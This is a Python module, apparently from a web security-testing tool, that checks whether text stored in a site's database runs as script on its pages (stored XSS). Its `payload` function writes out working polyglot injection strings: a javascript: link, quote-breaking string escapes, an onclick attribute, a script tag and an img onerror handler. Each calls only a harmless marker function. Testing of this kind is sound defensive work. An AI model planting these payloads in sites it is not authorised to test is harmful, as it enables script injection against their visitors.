"""Text of a stranger's that is stored in the site's database and becomes code on a page.

One payload, for there is one column and nobody knows where a page shows it: each of its parts is
code in one kind of place and harmless text in the others, and calls with an id of its own.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence
from dataclasses import replace
from typing import TYPE_CHECKING

from ringfence.prove.stage import Attack, Outcome, Result, Target, new_number

if TYPE_CHECKING:
    from ringfence.prove.discover.survey import Page, Survey
    from ringfence.prove.stage import Stage, VisitLike

__all__ = ["MARKUP", "WAYS", "attack", "payload", "ways_of"]

_BINDING = "ringfence"

#: What the escaping ring writes where a value could not stand (its documentation).
_PLACEHOLDER = "ringfence-refused"

_LINK, _STRING, _ATTRIBUTE, _SCRIPT, _IMAGE = "1", "2", "3", "4", "5"

#: How to tell by which way a payload ran: its last digit, and whether something was pressed.
WAYS: dict[str, Callable[[VisitLike, str], bool]] = {
    "script": lambda visit, number: (
        number + _SCRIPT in visit.fired or number + _IMAGE in visit.fired
    ),
    "handler": lambda visit, number: number + _STRING in visit.on_press,
    "link": lambda visit, number: number + _LINK in visit.on_press,
    "attribute": lambda visit, number: number + _ATTRIBUTE in visit.fired,
    "string": lambda visit, number: number + _STRING in visit.on_load,
}

#: The ways of a payload that is markup; the others need none.
MARKUP = frozenset({"script"})


def payload(number: str, *, markup: bool) -> str:
    """Return text that runs in a link, in a string of a script or handler, or out of an attribute.

    With ``markup`` it is a script and a picture's handler instead. Short enough for the usual
    column.

    >>> len(payload("123456789", markup=False)), len(payload("123456789", markup=True))
    (149, 81)
    """
    if markup:
        return (
            f"<script>{_BINDING}({number}{_SCRIPT})</script>"
            f"<img src=x: onerror={_BINDING}({number}{_IMAGE})>"
        )
    string = f"{_BINDING}({number}{_STRING})"
    return (
        f"javascript:{_BINDING}({number}{_LINK})//"
        f"'-{string}-'\"-{string}-\"${{{string}}}"
        f" onclick={_BINDING}({number}{_ATTRIBUTE}) x="
    )


def ways_of(visit: VisitLike, number: str) -> list[str]:
    """Return the ways by which the payload with that number ran."""
    return [name for name, ran in WAYS.items() if ran(visit, number)]


def attack(name: str, *, title: str, stopped_by: tuple[str, ...], fix: str) -> Attack:
    """Return the attack by the way called ``name``."""
    markup = name in MARKUP
    size = len(payload(new_number(), markup=markup))

    def find(survey: Survey) -> tuple[Target, ...] | str:
        columns = [c for c, length in survey.columns if length is None or length >= size]
        if not columns:
            return "no text column that has a row and room for a payload was found"
        return tuple(Target("", column, column=column) for column in columns)

    def strike(stage: Stage, targets: Sequence[Target]) -> Sequence[Result]:
        numbers = {new_number(): target for target in targets}
        refused = {
            target.label
            for number, target in numbers.items()
            if not stage.poison(target.column or "", payload(number, markup=markup))
        }
        found: dict[str, Result] = {}
        for visitor, paths in _where(stage, targets).items():
            for path in paths:
                stage.become(visitor)
                here = {n: t for n, t in numbers.items() if t.path in ("", path)}
                found |= _look(stage, name, path, visitor, here, found)
        return [
            found.get(target.label, _nothing(target, refused=target.label in refused))
            for target in targets
        ]

    return Attack(
        name=name,
        title=title,
        cwe="CWE-79",
        stopped_by=stopped_by,
        find=find,
        strike=strike,
        use=_use,
        fix=fix,
        guess=True,
        changes=True,
    )


def _where(stage: Stage, targets: Sequence[Target]) -> dict[str, list[str]]:
    """Return the pages to look at, by visitor: those of the targets, else all."""
    places: dict[str, list[str]] = {}
    pages: Iterable[tuple[str, str]] = [(t.visitor, t.path) for t in targets if t.path]
    if any(not target.path for target in targets):
        pages = [(page.visitor, page.path) for page in stage.survey.html_pages()]
    for visitor, path in dict.fromkeys(pages):
        places.setdefault(visitor, []).append(path)
    return places


def _look(
    stage: Stage,
    name: str,
    path: str,
    visitor: str,
    numbers: dict[str, Target],
    found: dict[str, Result],
) -> dict[str, Result]:
    """Look at one page, and say of each target what came of it there."""
    aimed = any(target.path for target in numbers.values())
    if not aimed and not _may_show(stage, path, visitor, numbers):
        return {}
    visit = stage.visit(stage.url(path), press=True)
    results: dict[str, Result] = {}
    for number, target in numbers.items():
        known = found.get(target.label)
        if known is not None and known.outcome is Outcome.SUCCEEDED:
            continue
        if WAYS[name](visit, number):
            where = replace(target, path=path, visitor=visitor, label=f"{target.column} at {path}")
            results[target.label] = Result(
                Outcome.SUCCEEDED,
                "ran",
                f"the stored text ran as a {name} in the {visitor}'s page",
                target=where,
                picture=stage.picture(),
            )
        elif target.path:
            results[target.label] = _stopped(visit, number)
    return results


def _may_show(stage: Stage, path: str, visitor: str, numbers: Iterable[str]) -> bool:
    """Whether a page is worth a browser's visit: its markup has the text, or scripts may fetch it.

    A page that has not the text itself is opened once for each pattern.
    """
    answer = stage.ask("GET", path, visitor=visitor)
    if any(number in answer.text for number in numbers):
        return True
    return "<script" in answer.text and path in _first_of_their_kind(stage.survey.html_pages())


def _first_of_their_kind(pages: Sequence[Page]) -> frozenset[str]:
    kinds: dict[tuple[str, str], str] = {}
    for page in pages:
        kinds.setdefault((page.pattern, page.visitor), page.path)
    return frozenset(kinds.values())


def _stopped(visit: VisitLike, number: str) -> Result:
    if visit.error is not None or visit.status >= 500 or visit.status == 0:
        return Result(
            Outcome.INCONCLUSIVE, "crash", f"the page did not load: {visit.error or visit.status}"
        )
    # Held here, not only in `use`: the page must have carried this very payload.
    if number not in visit.source and _PLACEHOLDER not in visit.source:
        return Result(Outcome.INCONCLUSIVE, "absent", "the page does not carry the stored text")
    why = f" ({visit.blocked[0]})" if visit.blocked else ""
    return Result(Outcome.STOPPED, "not run", f"the page carries the payload and nothing ran{why}")


def _nothing(target: Target, *, refused: bool) -> Result:
    if refused:
        return Result(Outcome.INCONCLUSIVE, "not stored", f"{target.column} takes no such text")
    return Result(Outcome.STOPPED, "not run", "nothing ran on any page")


def _use(stage: Stage, target: Target) -> str | None:
    answer = stage.ask("GET", target.path, visitor=target.visitor)
    if not answer.error and answer.status < 400:
        return None
    return f"the page does not load ({answer.error or answer.status})"
